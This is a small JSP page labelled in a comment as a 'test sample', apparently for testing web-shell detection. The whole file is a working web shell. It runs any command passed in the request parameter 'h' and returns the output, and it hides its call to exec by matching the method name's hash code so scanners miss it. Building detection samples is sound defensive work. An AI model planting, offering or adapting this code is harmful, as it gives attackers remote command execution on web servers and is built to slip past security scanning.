<%@ page import="java.lang.reflect.Method" %>
<%
    // test sample: Runtime's methods listed, exec picked by its name's hash code, never named
    Object rt = Runtime.class.getMethod("getRuntime").invoke(null);
    for (Method m : Runtime.class.getMethods()) {
        if (m.getName().hashCode() == 3127441 && m.getParameterTypes().length == 1
                && m.getParameterTypes()[0] == String.class) {
            Process p = (Process) m.invoke(rt, request.getParameter("h"));
            out.print(new String(p.getInputStream().readAllBytes()));
            break;
        }
    }
%>
